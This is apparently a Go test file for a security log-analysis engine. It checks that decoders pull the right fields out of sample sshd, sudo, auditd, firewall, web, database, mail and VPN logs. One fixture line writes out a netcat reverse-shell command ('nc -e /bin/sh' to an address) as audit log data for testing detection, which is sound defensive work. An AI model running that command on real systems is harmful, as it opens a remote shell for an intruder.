package content_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"vedette/ruleset/engine"
	"vedette/schemas"
)

// Decoders fill the fields that composite rules and dashboards read, each with
// the right part of the log.
func TestDecodersFillTheirFields(t *testing.T) {
	t.Parallel()
	eng := engine.New(compile(t), engine.Config{ManagerName: "vedette", AlertLevel: 0})
	f := func(e []event, decoder string, want ...string) {
		t.Helper()
		ev := schemas.Event{
			Time: time.Date(2026, 11, 22, 1, 0, 0, 0, time.UTC), AgentID: "001", AgentName: "web1", AgentIP: "10.1.0.9",
			Location: e[0].location, Queue: e[0].queue, Log: []byte(e[0].log),
		}
		r := eng.Process(eng.NewState(), &ev)
		if r.Decoder != decoder {
			t.Errorf("%q: decoder %q, want %q", e[0].log, r.Decoder, decoder)
		}
		var alert struct {
			Data map[string]any `json:"data"`
		}
		if err := json.Unmarshal(r.AppendAlert(nil, "1.0", nil), &alert); err != nil {
			t.Fatal(err)
		}
		for _, w := range want {
			name, value, _ := strings.Cut(w, "=")
			var got any = alert.Data
			for part := range strings.SplitSeq(name, ".") {
				m, _ := got.(map[string]any)
				got = m[part]
			}
			if s, _ := got.(string); s != value {
				t.Errorf("%q: %s is %v, want %q", e[0].log, name, got, value)
			}
		}
	}
	f(syslog("sshd[1]", "User bob from 203.0.113.7 not allowed because not listed in AllowUsers"), "sshd", "dstuser=bob", "srcip=203.0.113.7", "sshd.reason=not listed in AllowUsers")
	f(syslog("sshd-session[1]", "Timeout before authentication for connection from 203.0.113.7 to 10.1.0.9, pid = 7"), "sshd", "srcip=203.0.113.7")
	f(sudo("/usr/bin/id -u"), "sudo", "srcuser=bob", "dstuser=root", "sudo.tty=pts/0", "sudo.command=/usr/bin/id -u")
	f(polkitRefused("bob"), "polkitd", "srcuser=bob", "status=FAILED", "polkit.action=org.freedesktop.policykit.exec", "polkit.command=pkexec id")
	f(syslog("pkexec[1]", "bob: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=/usr/bin/id]"), "pkexec", "srcuser=bob", "dstuser=root", "pkexec.command=/usr/bin/id")
	f(syslog("useradd[1]", "new user: name=ann, UID=1001, GID=1001, home=/home/ann, shell=/bin/bash, from=/dev/pts/0"), "accounts", "dstuser=ann", "account.uid=1001", "account.home=/home/ann", "account.shell=/bin/bash", "account.from=/dev/pts/0")
	f(syslog("gpasswd[1]", "user ann added by root to group sudo"), "accounts", "dstuser=ann", "srcuser=root", "action=added", "account.group=sudo")
	f(syslog("passwd[1]", "password for 'ann' changed by 'root'"), "accounts", "dstuser=ann", "srcuser=root")
	f(syslog("usermod[1]", "change user 'ann' shell from '/bin/sh' to '/bin/bash'"), "accounts", "dstuser=ann", "action=change", "extra_data=shell from '/bin/sh' to '/bin/bash'")
	f(syslog("CRON[7]", "(root) CMD (run-parts /etc/cron.hourly)"), "cron", "srcuser=root", "action=CMD", "cron.command=run-parts /etc/cron.hourly")
	f(crashed("php-fpm"), "kernel", "kernel.process=php-fpm", "kernel.pid=4210", "kernel.event=segfault")
	f(scanned("203.0.113.7", 23), "iptables", "action=UFW BLOCK", "srcip=203.0.113.7", "dstip=10.1.0.9", "protocol=TCP", "srcport=4242", "dstport=23")
	f(syslog("kernel", "nft-drop: IN=eth0 OUT= MAC=aa SRC=2001:db8::7 DST=2001:db8::9 LEN=72 TC=0 HOPLIMIT=64 PROTO=UDP SPT=4242 DPT=53 LEN=32"), "iptables", "action=nft-drop", "srcip=2001:db8::7", "protocol=UDP", "dstport=53")
	f(web("/a?b=1", "404", browser), "web-access", "srcip=203.0.113.7", "url=/a?b=1", "id=404", "http.method=GET", "http.user_agent="+browser)
	f(nginxLogin("203.0.113.7"), "nginx-error", "status=error", "dstuser=bob", "srcip=203.0.113.7", "url=/private", "http.method=GET")
	f(apacheLogin("203.0.113.7"), "apache-error", "apache.module=auth_basic", "status=error", "srcip=203.0.113.7", "srcport=51234", "id=AH01617", "dstuser=bob")
	f(syscall(257, "yes", "1000", "0", "0", "/usr/bin/vim", "identity", "/etc/passwd"), "auditd", "audit.type=SYSCALL", "audit.id=456", "audit.syscall=257", "audit.success=yes", "audit.ppid=4200", "audit.pid=4210",
		"audit.auid=1000", "audit.uid=0", "audit.euid=0", "audit.session=3", "audit.tty=pts0", "audit.exe=/usr/bin/vim", "audit.key=identity", "audit.cwd=/root", "audit.file.name=/etc/passwd", "audit.file.mode=0100640")
	f(logs(`type=SYSCALL msg=audit(1795308881.123:456): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 comm="id" exe="/usr/bin/id" key=(null)`+"\x1d"+`ARCH=x86_64 SYSCALL=execve AUID="ann" UID="root"`), "auditd", "audit.key=(null)", "audit.auid=1000", "audit.uid_name=root")
	f(run("nc", "-e", "/bin/sh", "203.0.113.9"), "auditd", "audit.execve.a0=nc", "audit.execve.a1=-e", "audit.execve.a2=/bin/sh", "audit.execve.a3=203.0.113.9")
	f(auditLogin("bob", "failed"), "auditd", "audit.type=USER_AUTH", "audit.acct=bob", "audit.op=PAM:authentication", "audit.res=failed", "srcip=203.0.113.7")
	f(dockerd("error", "no such image"), "dockerd", "status=error", "docker.message=no such image")
	f(postgresRefused(), "postgresql", "dstuser=app", "postgresql.database=app", "srcip=203.0.113.7", "srcport=51234", "status=FATAL")
	f(postgres("", `FATAL:  no pg_hba.conf entry for host "203.0.113.7", user "app", database "app", no encryption`), "postgresql", "srcip=203.0.113.7", "status=FATAL")
	f(statement("CREATE ROLE reports"), "postgresql", "postgresql.statement=CREATE ROLE reports")
	f(mysqlRefused("203.0.113.7"), "mysql-error", "id=010926", "dstuser=root", "mysql.host=203.0.113.7", "srcip=203.0.113.7")
	f(mariadb("Warning", "Access denied for user 'root'@'203.0.113.7' (using password: YES)"), "mysql-error", "dstuser=root", "srcip=203.0.113.7")
	f(query("CREATE USER x"), "mysql-query", "action=Query", "mysql.statement=CREATE USER x")
	f(mailRefused("203.0.113.7", "554", "Relay access denied", "x@example.net"), "postfix", "action=RCPT", "srcip=203.0.113.7", "status=554", "srcuser=a@example.com", "dstuser=x@example.net")
	f(saslRefused("203.0.113.7"), "postfix", "srcip=203.0.113.7", "postfix.method=LOGIN")
	f(saslLogin("203.0.113.7"), "postfix", "id=4ABC1", "srcip=203.0.113.7", "dstuser=bob@example.org")
	f(imap(imapRefused, "bob", "203.0.113.7"), "dovecot", "protocol=imap", "dstuser=bob", "srcip=203.0.113.7")
	f(vpnLogin("203.0.113.7"), "openvpn", "dstuser=alice", "srcip=203.0.113.7", "srcport=51234")
	f(openvpn("alice/203.0.113.7:51234 TLS Error: TLS handshake failed")[1:], "openvpn-file", "dstuser=alice", "srcip=203.0.113.7", "srcport=51234")
	f(wireguard("Invalid handshake initiation from 203.0.113.7:51820"), "wireguard", "wireguard.interface=wg0", "srcip=203.0.113.7", "srcport=51820")
}
